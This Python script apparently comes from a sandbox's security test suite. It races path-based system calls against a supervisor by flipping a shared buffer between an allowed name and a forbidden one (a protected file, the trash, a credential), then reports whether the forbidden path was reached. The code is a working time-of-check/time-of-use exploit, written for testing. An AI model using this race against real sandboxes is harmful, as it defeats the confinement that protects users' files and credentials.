"""Threat: win the race of a name operation the supervisor decides and the
kernel used to carry out by reading the path buffer again. One thread loops
OP on a shared C buffer while another flips that buffer between an allowed
name and a forbidden one (a protected file in a writable tree, the trash,
a credential). Prints how often OP worked on the allowed name ("done") and
how often the forbidden name was reached ("won").

Usage: race_names.py rename|link|symlink|mkdir|mknod|unlink ALLOWED FORBIDDEN [SECONDS]

For unlink, FORBIDDEN is an existing file that must survive; for the others
it must not come to exist.
"""

import ctypes
import os
import stat
import sys
import threading
import time

DONE = 42
MAX_ITERATIONS = 100_000

libc = ctypes.CDLL(None, use_errno=True)  # CDLL drops the GIL around each call
for name, args in {
    "rename": (ctypes.c_char_p, ctypes.c_void_p),
    "link": (ctypes.c_char_p, ctypes.c_void_p),
    "symlink": (ctypes.c_char_p, ctypes.c_void_p),
    "mkdir": (ctypes.c_void_p, ctypes.c_uint),
    "mknod": (ctypes.c_void_p, ctypes.c_uint, ctypes.c_ulong),
    "unlink": (ctypes.c_void_p,),
}.items():
    getattr(libc, name).argtypes = args
    getattr(libc, name).restype = ctypes.c_int

op, allowed, forbidden = sys.argv[1], os.path.abspath(sys.argv[2]), os.path.abspath(sys.argv[3])
seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 2.0
a, f = os.fsencode(allowed) + b"\0", os.fsencode(forbidden) + b"\0"
buf = ctypes.create_string_buffer(4096)
ctypes.memmove(buf, a, len(a))
src = os.fsencode(os.path.join(os.path.dirname(allowed), "race-source"))
stop = threading.Event()


def flip():
    while not stop.is_set():
        ctypes.memmove(buf, f, len(f))
        ctypes.memmove(buf, a, len(a))


def remove(path):
    try:
        if os.path.isdir(path) and not os.path.islink(path):
            os.rmdir(path)
        else:
            os.unlink(path)
    except FileNotFoundError:
        pass


def attempt():
    p = ctypes.addressof(buf)
    if op == "rename":
        with open(src, "w") as out:
            out.write("payload\n")
        return libc.rename(src, p)
    if op == "link":
        return libc.link(src, p)
    if op == "symlink":
        return libc.symlink(b"/payload-target", p)
    if op == "mkdir":
        return libc.mkdir(p, 0o755)
    if op == "mknod":
        return libc.mknod(p, stat.S_IFIFO | 0o644, 0)
    if op == "unlink":
        with open(allowed, "w") as out:
            out.write("expendable\n")
        return libc.unlink(p)
    raise SystemExit(f"unknown op {op}")


def forbidden_reached():
    if op == "unlink":
        return not os.path.lexists(forbidden)
    return os.path.lexists(forbidden)


if op == "link":
    with open(src, "w") as out:
        out.write("payload\n")
flipper = threading.Thread(target=flip, daemon=True)
flipper.start()
done = refused = won = iterations = 0
deadline = time.monotonic() + seconds
while time.monotonic() < deadline and iterations < MAX_ITERATIONS and not won:
    iterations += 1
    if attempt() != 0:
        refused += 1
        continue
    if forbidden_reached():
        won += 1
        print(f"won: {op} reached {forbidden}", flush=True)
        break
    done += 1
    if op != "unlink":
        remove(allowed)
stop.set()
flipper.join()
print(f"iterations: {iterations}")
print(f"done: {done}")
print(f"refused: {refused}")
print(f"won: {won}")
sys.exit(DONE)
